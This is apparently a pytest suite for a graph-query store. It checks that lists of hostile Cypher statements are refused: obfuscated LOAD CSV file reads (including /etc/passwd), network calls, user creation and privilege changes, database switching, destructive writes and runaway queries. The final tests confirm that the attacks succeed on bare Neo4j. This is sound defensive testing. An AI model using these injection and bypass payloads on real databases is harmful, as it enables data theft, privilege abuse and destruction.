"""Hostile statements: they write, read files, use the network, administer the server, or never end.

Each attack runs against a graph of each engine. It must change nothing, show nothing of a file that the server
can read, and open no connection. The tests at the end run the attacks without kgraph, and show that they work
there.
"""

import json
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from itertools import product
from pathlib import Path

import kglite
import pytest
from neo4j_server import Neo4jServer
from runs import NODES, RELATIONSHIPS

from kgraph.errors import QueryError
from kgraph.store import GraphStore, is_server, open_store

SECRET = "the secret of the file"

# <file> is the address of the secret, <url> that of a listening server.
READING_FILES = [
    "LOAD CSV FROM '<file>' AS r RETURN r",
    "LOAD CSV FROM '<file>' AS r RETURN r",
    "LOAD CSV WITH HEADERS FROM '<file>' AS r RETURN r",
    "load/**/csv FROM '<file>' AS r RETURN r",
    "`LOAD` `CSV` FROM '<file>' AS r RETURN r",
    "LOAD // x\nCSV FROM '<file>' AS r RETURN r",
    "LOAD\\u0020CSV FROM '<file>' AS r RETURN r",
    "LOAD\xa0CSV FROM '<file>' AS r RETURN r",
    "RETURN 'x\\u0027 AS r UNION LOAD CSV FROM \"<file>\" AS r RETURN r //'",
    "RETURN 1 AS `r\\u0060 UNION LOAD CSV FROM '<file>' AS r RETURN r //`",
    "RETURN 1 AS r //\\u000aUNION LOAD CSV FROM '<file>' AS r RETURN r",
    "RETURN 1 AS r /* \\u002a/ UNION LOAD CSV FROM '<file>' AS r RETURN r /* */",
    "RETURN 1 AS r UNION LOAD CSV FROM '<file>' AS r RETURN r",
    "RETURN 1 AS r EXCEPT LOAD CSV FROM '<file>' AS r RETURN r",
    "FOR VALID_TIME ALL LOAD CSV FROM '<file>' AS r RETURN r",
    "CYPHER 5 runtime=slotted LOAD CSV FROM '<file>' AS r RETURN r",
    "PROFILE LOAD CSV FROM '<file>' AS r RETURN r",
    "CALL { LOAD CSV FROM '<file>' AS r RETURN r } RETURN r",
    "RETURN COUNT { LOAD CSV FROM '<file>' AS r RETURN r } AS n",
    "MATCH (n) LOAD CSV FROM '<file>' AS r RETURN r",
    "FOREACH (x IN [1] | LOAD CSV FROM '<file>' AS r)",
    "RETURN 1 AS x; LOAD CSV FROM '<file>' AS r RETURN r",
    "CALL apoc.load.csv('<file>') YIELD list RETURN list",
    "CALL apoc.load.json('<file>') YIELD value RETURN value",
    "RETURN apoc.load.json('<file>') AS x",
]

REACHING_THE_NETWORK = [
    "LOAD CSV FROM '<url>' AS r RETURN r",
    "LOAD CSV WITH HEADERS FROM '<url>' AS r RETURN r",
    "LOAD\tCSV FROM '<url>' + '?x=' + toString(1) AS r RETURN r",
    "MATCH (n) LOAD CSV FROM '<url>?' + n.name AS r RETURN r",
    "CALL (*) { LOAD CSV FROM '<url>' AS r RETURN r } RETURN r",
    "CALL apoc.load.jsonParams('<url>', {}, 'x') YIELD value RETURN value",
    "CALL `apoc`.`load`.`html`('<url>', {})",
    "CALL genai.vector.encodeBatch(['x'], 'OpenAI', {token: 't', url: '<url>'})",
    "RETURN genai.vector.encode('x', 'OpenAI', {token: 't', url: '<url>'}) AS x",
    "RETURN `genai.vector.encode`('x', 'OpenAI') AS x",
    "CALL pagerank({where: 'true RETURN n UNION LOAD CSV FROM \"<file>\" AS n RETURN n //'})"
    " YIELD node CALL dbms.queryJmx('*:*') YIELD name RETURN name",
]

LEAVING_THE_GRAPH = [
    "USE system SHOW USERS",
    "USE system MATCH (n) RETURN n",
    "USE `system` RETURN 1",
    "use/**/neo4j RETURN 1 AS x",
    "CYPHER 5 USE neo4j RETURN 1 AS x",
    "USE graph.byName('neo4j') RETURN 1 AS x",
    "RETURN 1 AS x UNION USE neo4j RETURN 2 AS x",
    "CALL { USE neo4j MATCH (n) RETURN n } RETURN n",
    "RETURN COUNT { USE neo4j MATCH (n) } AS n",
]

RUNNING_THE_SERVER = [
    "CREATE USER eve SET PASSWORD 'abcdefgh1' CHANGE NOT REQUIRED",
    "CREATE/**/USER eve SET PASSWORD 'abcdefgh1'",
    "CYPHER 5 CREATE OR REPLACE USER eve SET PASSWORD 'abcdefgh1'",
    "DROP USER neo4j",
    "ALTER CURRENT USER SET PASSWORD FROM 'x' TO 'abcdefgh1'",
    "ALTER USER neo4j SET PASSWORD 'abcdefgh1'",
    "RENAME USER neo4j TO eve",
    "GRANT ROLE admin TO neo4j",
    "CREATE DATABASE eve",
    "STOP DATABASE neo4j",
    "SHOW USERS",
    "SHOW SETTINGS",
    "SHOW TRANSACTIONS",
    "SHOW INDEXES YIELD name TERMINATE TRANSACTIONS 'neo4j-transaction-1'",
    "TERMINATE TRANSACTIONS 'neo4j-transaction-1'",
    "CALL dbms.listConfig()",
    "CALL dbms.listConnections()",
    "CALL dbms.queryJmx('*:*')",
    "CALL dbms.killConnections(['bolt-1'])",
    "CALL db.clearQueryCaches()",
    "CALL db.stats.retrieve('GRAPH COUNTS')",
    "CALL db.createLabel('Evil')",
    "CALL db.createProperty('evil')",
    "CALL tx.setMetaData({evil: 1})",
    "CALL db.cdc.enable({})",
    "CALL db.ontology.declare({ontology: '{}'})",
    "CYPHER debug=ast RETURN 1",
]

WRITING = [
    "CREATE (:Evil {id: 'x'})",
    "MERGE (n:Evil {id: 'x'})",
    "MATCH (n) SET n.evil = 1",
    "MATCH (n) SET n:Evil",
    "MATCH (n) REMOVE n.name",
    "MATCH (n) DETACH DELETE n",
    "MATCH (a), (b) CREATE (a)-[:EVIL]->(b)",
    "INSERT (:Evil)",
    "MATCH (n) FOREACH (x IN [1] | SET n.evil = x)",
    "MATCH (n) CALL { WITH n SET n.evil = 1 } RETURN n",
    "MATCH (n) CALL (n) { CREATE (:Evil) } IN TRANSACTIONS OF 1 ROWS RETURN n",
    "UNWIND [1] AS x CALL (x) { CREATE (:Evil {id: x}) RETURN 1 AS y } RETURN y",
    "RETURN 1 AS x UNION CREATE (n:Evil) RETURN 1 AS x",
    "MATCH (n) RETURN n; MATCH (n) DETACH DELETE n",
    "// MATCH (n) RETURN n\nCREATE (:Evil)",
    "/* RETURN 1 */ CREATE /* RETURN */ (:Evil)",
    "CYPHER runtime=slotted CREATE (:Evil)",
    "CYPHER 5 CREATE (:Evil)",
    "PROFILE CREATE (:Evil)",
    "EXPLAIN CREATE (:Evil)",
    "CREATE INDEX evil FOR (n:Paper) ON (n.title)",
    "CREATE CONSTRAINT evil FOR (n:Paper) REQUIRE n.title IS UNIQUE",
    "CREATE FULLTEXT INDEX evil FOR (n:Paper) ON EACH [n.title]",
    "DROP CONSTRAINT paper_id",
    "DROP CONSTRAINT paper_id IF EXISTS",
    "DROP INDEX paper_id IF EXISTS",
    "CALL db.index.vector.createNodeIndex('evil', 'Paper', 'x', 2, 'cosine')",
    "MATCH (n) CALL db.create.setNodeVectorProperty(n, 'evil', [1.0]) RETURN n",
    "CALL table.upsert({})",
]

HOSTILE = [
    "'; MATCH (n) DETACH DELETE n //",
    "\\u0027 DETACH DELETE n //",
    "x`) DETACH DELETE n //",
    "*/ LOAD CSV FROM 'file:///etc/passwd' AS r RETURN r",
    "${LOAD CSV}",
    "\\",
    "\x00",
    "CALL dbms.listConfig()",
]


@dataclass
class Listener:
    """An HTTP server that counts its requests and gives one response."""

    url: str
    calls: list[str] = field(default_factory=list)


@pytest.fixture
def listener() -> Iterator[Listener]:
    with socket.create_server(("127.0.0.1", 0)) as server:
        heard = Listener(f"http://127.0.0.1:{server.getsockname()[1]}/x.csv")

        def answer() -> None:
            while True:
                try:
                    connection, address = server.accept()
                except OSError:
                    return
                with connection:
                    heard.calls.append(str(address))
                    connection.recv(4096)
                    connection.sendall(b"HTTP/1.0 200 OK\r\nContent-Type: text/csv\r\n\r\nfrom afar,1\n")

        thread = threading.Thread(target=answer, daemon=True)
        thread.start()
        yield heard
        # Closing the socket alone does not wake the thread.
        server.shutdown(socket.SHUT_RDWR)
        thread.join(5)


@dataclass(frozen=True)
class Scene:
    """A graph of one engine, with the files that an attack must not reach."""

    store: GraphStore
    file: Path
    server: Neo4jServer | None
    listener: Listener

    def armed(self, attack: str) -> str:
        return attack.replace("<file>", f"file://{self.file}").replace("<url>", self.listener.url)

    def state(self) -> list[str]:
        """Return everything in the store in a comparable form."""
        found = [
            json.dumps(row, sort_keys=True)
            for cypher in (
                NODES,
                RELATIONSHIPS,
                "SHOW CONSTRAINTS YIELD name, type, labelsOrTypes, properties",
                "SHOW INDEXES YIELD name, type, labelsOrTypes, properties",
            )
            for row in self.store.query(cypher).rows
        ]
        if self.server:
            found += [str(row) for row in self.server.rows("SHOW USERS")]
            found += [str(row["name"]) for row in self.server.rows("SHOW DATABASES YIELD name")]
            found += [str(row) for row in self.server.rows("CALL db.labels()")]
        return sorted(found)


@pytest.fixture
def scene(
    small_store: GraphStore,
    store_name: str,
    tmp_path: Path,
    listener: Listener,
    request: pytest.FixtureRequest,
) -> Scene:
    server: Neo4jServer | None = request.getfixturevalue("neo4j_server") if is_server(store_name) else None
    file = (server.home / "import" if server else tmp_path) / "secret.csv"
    file.write_text(f"{SECRET},1\n")
    return Scene(small_store, file, server, listener)


@pytest.mark.parametrize(
    "attacks",
    [READING_FILES, REACHING_THE_NETWORK, LEAVING_THE_GRAPH, RUNNING_THE_SERVER],
    ids=["files", "network", "elsewhere", "server"],
)
def test_no_attack_gets_out_of_the_graph(scene: Scene, attacks: list[str]) -> None:
    before = scene.state()
    for attack, write in product(attacks, (False, True)):
        with pytest.raises(QueryError) as refusal:
            pytest.fail(f"{attack} gave {scene.store.query(scene.armed(attack), write=write, timeout=5)}")
        assert SECRET not in str(refusal.value) and "from afar" not in str(refusal.value), attack
        assert scene.listener.calls == [], attack
    assert scene.state() == before


def test_nothing_is_written_without_write(scene: Scene) -> None:
    before = scene.state()
    for attack in WRITING:
        with pytest.raises(QueryError):
            pytest.fail(f"{attack} gave {scene.store.query(attack, timeout=5)}")
        assert scene.state() == before, attack


def test_hostile_text_is_only_text(scene: Scene) -> None:
    """As a parameter, a string of the statement, a name in backticks, and stored."""
    before = scene.state()
    for text in HOSTILE:
        quoted = "'" + text.replace("\\", "\\\\").replace("'", "\\'") + "'"
        assert scene.store.query("RETURN $p AS x", {"p": text}).rows == ({"x": text},)
        assert scene.store.query(f"RETURN {quoted} AS x").rows == ({"x": text},)
        assert scene.store.query("MATCH (n) WHERE n.name = $p RETURN n", {"p": text}).rows == ()
        for cypher, parameters in [
            ("$p", {"p": "MATCH (n) DETACH DELETE n"}),
            ("CALL $p", {"p": "db.createLabel"}),
            ("MATCH (n:$($p)) RETURN n", {"p": text}),
            (f"MATCH (n:`{text.replace('`', '``')}`) RETURN n", {}),
        ]:
            try:
                assert scene.store.query(cypher, parameters).rows == ()
            except QueryError as refusal:
                assert SECRET not in str(refusal)
        assert scene.state() == before, text
        stored = scene.store.query("CREATE (n:Note {text: $p}) RETURN n.text AS x", {"p": text}, write=True)
        assert stored.rows == ({"x": text},)
        assert scene.store.query("MATCH (n:Note) RETURN n.text AS x").rows == ({"x": text},)
        scene.store.query("MATCH (n:Note) DELETE n", write=True)
        assert len(scene.store.query("MATCH (n) RETURN n").rows) == 3


def test_allowed_statements_run(scene: Scene) -> None:
    assert scene.store.query("CALL db.labels() YIELD label RETURN count(label) AS n").rows[0]["n"] >= 2
    assert len(scene.store.query("MATCH (n) CALL (n) { RETURN n.name AS x } RETURN x").rows) == 3
    assert scene.store.query("RETURN date.truncate('year', date('2020-02-03')) AS x").rows == (
        {"x": "2020-01-01"},
    )


@pytest.mark.parametrize(
    "cypher",
    [
        "UNWIND range(1, 60000) AS x UNWIND range(1, 60000) AS y RETURN sum(x * y)",
        "MATCH (a), (b), (c), (d), (e), (f), (g), (h), (i), (j), (k), (l), (m), (n), (o), (p), (q), (r) "
        "RETURN max(a.name + r.name) AS x",
        # One row, within which no server checks the time. It ends by itself after a while.
        "RETURN reduce(s = 0, i IN range(1, 20000) | s + reduce(t = 0, j IN range(1, 20000) | t + j)) AS x",
    ],
)
def test_an_endless_query_is_stopped(scene: Scene, cypher: str) -> None:
    started = time.monotonic()
    with pytest.raises(QueryError, match=r"stopped after 1 seconds|abandoned after 1 seconds|work"):
        scene.store.query(cypher, timeout=1)
    assert time.monotonic() - started < 10
    assert len(scene.store.query("MATCH (n) RETURN n").rows) == 3


def test_a_limit_bounds_the_rows(scene: Scene) -> None:
    found = scene.store.query("UNWIND range(1, 1000000) AS x RETURN x", limit=7, timeout=20)
    assert (len(found.rows), found.truncated) == (7, True)


@pytest.mark.parametrize(
    "cypher",
    [
        "RETURN reduce(s = 'x', i IN range(1, 25) | s + s) AS x",
        "RETURN {a: [reduce(s = 'x', i IN range(1, 25) | s + s)]} AS x",
    ],
)
def test_a_huge_value_is_refused(scene: Scene, cypher: str) -> None:
    with pytest.raises(QueryError, match="holds more than 16,000,000 characters or items"):
        scene.store.query(cypher, timeout=30)


DOUBLING = "RETURN size(reduce(s = 'x', i IN range(1, 40) | s + s)) AS x"


@pytest.mark.slow
@pytest.mark.xfail(
    reason="kglite takes all the memory there is and aborts the process; it has no bound of its own",
    strict=True,
)
def test_a_value_beyond_memory_leaves_the_process_alive(tmp_path: Path) -> None:
    program = (
        "import resource; resource.setrlimit(resource.RLIMIT_AS, (4 << 30, 4 << 30))\n"
        "from pathlib import Path; from kgraph.store.embedded import EmbeddedStore\n"
        "from kgraph.errors import QueryError\n"
        f"store = EmbeddedStore(Path({str(tmp_path / 'g.kg')!r})); store.replace([], [])\n"
        f"try: store.query({DOUBLING!r})\n"
        "except QueryError: print('alive')\n"
    )
    ran = subprocess.run(
        [sys.executable, "-c", program], capture_output=True, text=True, check=False, timeout=120
    )
    assert ran.stdout == "alive\n", ran.stderr[:500]


def test_the_embedded_engine_alone_reads_the_file(tmp_path: Path) -> None:
    (tmp_path / "secret.csv").write_text(f"{SECRET},1\n")
    store = open_store(str(tmp_path / "graph.kg"))
    store.replace([], [])
    graph = kglite.load(str(tmp_path / "graph.kg"))
    graph.read_only(True)
    for attack in ("LOAD CSV", "`LOAD` `CSV`", "RETURN 1 AS r UNION LOAD CSV", "FOR VALID_TIME ALL LOAD CSV"):
        found = graph.cypher(f"{attack} FROM 'file://{tmp_path}/secret.csv' AS r RETURN r")
        assert SECRET in str(list(found)), attack


def test_neo4j_alone_reads_the_file_and_the_address(neo4j: Neo4jServer, listener: Listener) -> None:
    file = neo4j.home / "import" / "secret.csv"
    file.write_text(f"{SECRET},1\n")
    for attack in (
        "LOAD CSV FROM '<file>' AS r RETURN r",
        "LOAD\\u0020CSV FROM '<file>' AS r RETURN r",
        "LOAD\xa0CSV FROM '<file>' AS r RETURN r",
        "RETURN 'x\\u0027 AS r UNION LOAD CSV FROM \"<file>\" AS r RETURN r //'",
        "RETURN 1 AS `r\\u0060 UNION LOAD CSV FROM '<file>' AS r RETURN r //`",
        "RETURN 1 AS r //\\u000aUNION LOAD CSV FROM '<file>' AS r RETURN r",
        "RETURN 1 AS r /* \\u002a/ UNION LOAD CSV FROM '<file>' AS r RETURN r /* */",
    ):
        assert SECRET in str(neo4j.rows(attack.replace("<file>", f"file://{file}"))), attack
    assert "from afar" in str(neo4j.rows(f"LOAD CSV FROM '{listener.url}' AS r RETURN r"))
    assert listener.calls


def test_neo4j_alone_runs_the_other_attacks(neo4j: Neo4jServer) -> None:
    assert neo4j.rows("RETURN 1 AS x UNION USE neo4j RETURN 2 AS x") == [{"x": 1}, {"x": 2}]
    assert neo4j.rows("CALL dbms.listConfig()") and neo4j.rows("SHOW SETTINGS")
    assert neo4j.rows("CALL db.clearQueryCaches()")
    neo4j.rows("CREATE USER eve SET PASSWORD 'abcdefgh1'")
    assert len(neo4j.rows("SHOW USERS")) == 2
    neo4j.rows("DROP USER eve")
    neo4j.rows("CYPHER runtime=slotted CREATE (:Evil)")
    assert neo4j.rows("MATCH (n:Evil) RETURN count(n) AS n") == [{"n": 1}]
